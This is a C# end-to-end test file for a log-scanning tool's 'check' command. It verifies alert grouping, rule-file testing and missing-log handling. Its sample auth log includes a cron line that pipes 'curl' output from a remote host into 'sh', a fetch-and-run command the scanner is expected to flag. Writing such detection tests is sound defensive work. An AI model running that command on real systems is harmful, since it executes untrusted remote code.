using System.Text;

namespace Ashiato.EndToEnd;

/// <summary><c>ashiato check</c> as a person runs it, with Ashiato's own rules.</summary>
public sealed class CheckTests
{
    private const string Log = """
        Mar  2 06:25:01 host1 CRON[811]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
        Mar  2 06:25:02 host1 su[700]: FAILED SU (to root) carol on pts/0
        Mar  2 06:25:03 host1 CRON[501]: (root) CMD (curl -s http://192.0.2.7/a.sh | sh)
        Mar  2 06:25:00 host1 odd[1]: never heard of this

        """;

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void Shows_the_three_parts_in_order(bool isPacked)
    {
        using var directory = new TempDirectory();
        var bytes = Encoding.UTF8.GetBytes(Log);
        var log = directory.Write("auth.log", isPacked ? Logs.Gzip(bytes) : bytes);
        var run = ProgramRun.Of("check", log);
        Assert.Equal(0, run.Status);
        Assert.Empty(run.Error);
        var lines = run.Out.Split('\n');
        Assert.Equal("Security Alerts for shells", lines[0]);
        Assert.Equal("=-=-=-=-=-=-=-=-=-=-=-=-=-", lines[1]);
        Assert.EndsWith("(curl -s http://192.0.2.7/a.sh | sh)", lines[2], StringComparison.Ordinal);
        Assert.Equal("Security Events for su", lines[4]);
        Assert.Equal("System Events", lines[8]);
        Assert.EndsWith("never heard of this", lines[10], StringComparison.Ordinal);
        Assert.DoesNotContain("cron:session", run.Out, StringComparison.Ordinal);
    }

    [Fact]
    public void Tests_a_rule_file()
    {
        using var directory = new TempDirectory();
        var log = directory.Write("auth.log", Encoding.UTF8.GetBytes(Log));
        var rules = directory.Write("mine", "# mine\nFAILED SU\nnothing\n(a)\\1\n"u8);
        var run = ProgramRun.Of("check", "test", rules, log);
        Assert.Equal(1, run.Status);
        Assert.Contains($"{rules}:2: matches 1 lines", run.Out, StringComparison.Ordinal);
        Assert.Contains($"{rules}:3: matches 0 lines", run.Out, StringComparison.Ordinal);
        Assert.Contains($"{rules}:4: pattern left out", run.Out, StringComparison.Ordinal);
        Assert.Contains("4 lines read; 1 matched, 3 not; 1 patterns match nothing, 1 cannot be used", run.Out, StringComparison.Ordinal);
    }

    [Fact]
    public void A_log_that_is_missing_is_named_and_the_others_are_read()
    {
        using var directory = new TempDirectory();
        var log = directory.Write("auth.log", Encoding.UTF8.GetBytes(Log));
        var run = ProgramRun.Of("check", "-o", "-w", "-t", directory.At("nothing"), log);
        Assert.Equal(3, run.Status);
        Assert.Single(run.ErrorLines);
        Assert.Contains("System Events", run.Out, StringComparison.Ordinal);
    }
}
